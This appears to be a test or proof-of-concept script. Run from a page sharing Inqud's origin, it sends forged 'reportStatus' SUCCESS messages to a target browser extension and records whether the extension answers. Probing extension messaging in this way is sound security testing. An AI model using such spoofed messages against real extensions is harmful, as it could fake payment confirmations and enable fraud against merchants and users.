/** The same from a script in Inqud's own page, which shares its origin with the honest one. */
const api = globalThis.browser ?? globalThis.chrome;
const target = /^#attack=(.+)$/.exec(location.hash)?.[1];

if (location.hash === '#look') api.runtime.sendMessage({ look: true });

if (target) {
  const checkoutId = location.pathname.split('/').at(-1);
  const messages = [
    { command: 'reportStatus', payload: { source: 'widget', id: checkoutId, status: 'SUCCESS' } },
    { command: 'reportStatus', payload: { source: 'hosted page', id: checkoutId, status: 'SUCCESS' } },
  ];
  attack(messages);
}

async function attack(messages) {
  const content = [];
  for (const message of messages) {
    content.push(
      await Promise.resolve(api.runtime.sendMessage(target, message)).then(
        (answer) => (answer === undefined ? 'nothing' : 'answered'),
        () => 'nothing',
      ),
    );
  }
  const background = await api.runtime.sendMessage({ attack: { target, messages } });
  document.documentElement.dataset.answers = JSON.stringify({ background, content });
  document.documentElement.dataset.attacked = 'done';
}
